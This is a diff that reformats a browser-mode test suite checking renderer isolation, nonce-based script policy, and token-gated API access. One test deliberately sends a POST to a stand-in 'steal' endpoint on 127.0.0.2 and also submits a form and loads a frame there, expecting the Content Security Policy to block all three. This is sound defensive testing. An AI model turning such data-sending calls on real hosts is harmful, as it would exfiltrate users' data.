@@ -11,7 +11,9 @@ beforeAll(async () => {
   await app.page.locator('.sidebar').waitFor();
   await app.page.evaluate(() => {
     (window as unknown as { violations: string[] }).violations = [];
-    document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { violations: string[] }).violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
+    document.addEventListener('securitypolicyviolation', (e) =>
+      (window as unknown as { violations: string[] }).violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
+    );
   });
 });
 afterAll(async () => {
@@ -22,9 +24,16 @@ const violations = () => app.page.evaluate(() => (window as unknown as { violati
 
 describe('renderer isolation in browser mode', () => {
   it('has no Node globals and reaches the core only through the contract', async () => {
-    const globals = await app.page.evaluate(() => [typeof (globalThis as Record<string, unknown>).require, typeof (globalThis as Record<string, unknown>).process, typeof (globalThis as Record<string, unknown>).Buffer, typeof (globalThis as Record<string, unknown>).module]);
+    const globals = await app.page.evaluate(() => [
+      typeof (globalThis as Record<string, unknown>).require,
+      typeof (globalThis as Record<string, unknown>).process,
+      typeof (globalThis as Record<string, unknown>).Buffer,
+      typeof (globalThis as Record<string, unknown>).module,
+    ]);
     expect(globals).toEqual(['undefined', 'undefined', 'undefined', 'undefined']);
-    expect(await app.page.evaluate(() => typeof (window as unknown as Record<string, unknown>).ledger)).toBe('undefined');
+    expect(await app.page.evaluate(() => typeof (window as unknown as Record<string, unknown>).ledger)).toBe(
+      'undefined',
+    );
   });
 
   it('refuses injected inline script and styles without the nonce', async () => {
@@ -39,7 +48,12 @@ describe('renderer isolation in browser mode', () => {
   });
 
   it('cannot send data to another origin, submit forms away or frame other pages', async () => {
-    const fetched = await app.page.evaluate(() => fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
+    const fetched = await app.page.evaluate(() =>
+      fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' }).then(
+        () => 'sent',
+        () => 'blocked',
+      ),
+    );
     expect(fetched).toBe('blocked');
     await app.page.evaluate(() => {
       const f = document.createElement('form');
@@ -51,16 +65,24 @@ describe('renderer isolation in browser mode', () => {
       frame.src = 'http://127.0.0.2:9/';
       document.body.appendChild(frame);
     });
-    await expect.poll(violations).toEqual(expect.arrayContaining([
-      expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.2:9/),
-      expect.stringMatching(/^form-action http:\/\/127\.0\.0\.2:9/),
-      expect.stringMatching(/^frame-src http:\/\/127\.0\.0\.2:9/),
-    ]));
+    await expect
+      .poll(violations)
+      .toEqual(
+        expect.arrayContaining([
+          expect.stringMatching(/^connect-src http:\/\/127\.0\.0\.2:9/),
+          expect.stringMatching(/^form-action http:\/\/127\.0\.0\.2:9/),
+          expect.stringMatching(/^frame-src http:\/\/127\.0\.0\.2:9/),
+        ]),
+      );
     expect(app.page.url()).toContain(new URL(app.url).origin);
   });
 
   it('sends the per-run token only to its own origin and fails closed without it', async () => {
-    const status = await app.page.evaluate(() => fetch('/api/settings.get', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) => r.status));
+    const status = await app.page.evaluate(() =>
+      fetch('/api/settings.get', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then(
+        (r) => r.status,
+      ),
+    );
     expect(status).toBe(401);
   });
 });
